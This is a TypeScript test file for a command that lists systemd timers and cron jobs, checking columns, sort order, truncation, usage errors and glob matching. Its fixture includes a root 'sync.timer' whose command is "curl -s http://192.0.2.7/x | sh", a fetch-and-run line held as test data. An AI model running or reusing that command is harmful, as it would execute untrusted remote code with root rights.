import { describe, expect, test } from "vitest";
import { UsageError } from "../command.ts";
import { folderOf, HOST, NOW, run } from "../run.test-support.ts";
import { list } from "./list.ts";

async function table(...args: readonly string[]): Promise<string[]> {
  const { out } = await run(list, [`root:${folderOf(HOST)}`, ...NOW, "--all", ...args]);
  return out.split("\n");
}

const units = (lines: readonly string[]): string[] =>
  lines.flatMap((line) => /\b\w+\.timer\b/.exec(line) ?? []);

describe("columns and order", () => {
  test("these, in this order", async () => {
    const [titles, first] = await table("--columns", "unit,AS,runs");
    expect(titles).toMatch(/^UNIT +AS +RUNS$/);
    expect(first).toMatch(/^sync\.timer +root +\/bin\/sh -c 'curl/);
  });

  test.each([
    [[], ["sync", "calm", "idle"]],
    [
      ["--sort", "unit"],
      ["calm", "idle", "sync"],
    ],
    [["--sort=-unit"], ["sync", "idle", "calm"]],
    [["--sort=-next"], ["idle", "calm", "sync"]],
    [
      ["--sort", "state"],
      ["idle", "sync", "calm"],
    ],
    [
      ["-o", "wide", "--sort", "file"],
      ["calm", "idle", "sync"],
    ],
  ])("%j", async (args, wanted) => {
    const lines = await table("--no-legend", ...args);
    expect(units(lines)).toEqual(wanted.map((name) => `${name}.timer`));
  });

  test("without titles and counts, rows only, and nothing when there is none", async () => {
    const lines = await table("--no-legend", "--columns", "unit");
    expect(lines).toEqual(["sync.timer", "calm.timer", "idle.timer", ""]);
    expect(await table("--no-legend", "-f", "unit:none")).toEqual([""]);
  });

  test("jobs are counted as what they are", async () => {
    const target = `root:${folderOf({ ...HOST, "/etc/crontab": "@daily root true\n" })}`;
    const { out } = await run(list, [target, ...NOW, "--all"]);
    expect(out).toContain("4 shown: 3 system, 0 user, 1 cron or at job · ");
  });

  test("on a narrow terminal columns that were chosen stay, and --full cuts nothing", async () => {
    const args = [`root:${folderOf(HOST)}`, ...NOW, "--columns", "unit,runs"];
    const narrow = { isTerminal: true, columns: 40 };
    expect((await run(list, args, narrow)).out).toContain("…");
    expect((await run(list, [...args, "-l"], narrow)).out).toContain("curl -s http://192.0.2.7/x | sh'");
  });
});

test.each([
  [["--columns", "unit,nxt"], 'no column "nxt"; did you mean next?'],
  [["--sort", "when"], 'no column "when" (next in unit'],
  [["-o", "json", "--sort", "unit"], "are for -o table and -o wide"],
] as const)("%j is refused", async (args, message) => {
  const failing = run(list, [`root:${folderOf(HOST)}`, ...args]);
  await expect(failing).rejects.toThrow(UsageError);
  await expect(failing).rejects.toThrow(message);
});

test.each([
  [["calm"], ["calm"]],
  [["calm.timer"], ["calm"]],
  [["calm.service"], ["calm"]],
  [["[cs]*"], ["sync", "calm"]],
  [
    ["*m", "i?le.timer"],
    ["calm", "idle"],
  ],
  [["[!s]*"], ["calm", "idle"]],
])("patterns as in a shell: %j", async (patterns, wanted) => {
  expect(units(await table("--no-legend", ...patterns))).toEqual(wanted.map((name) => `${name}.timer`));
});
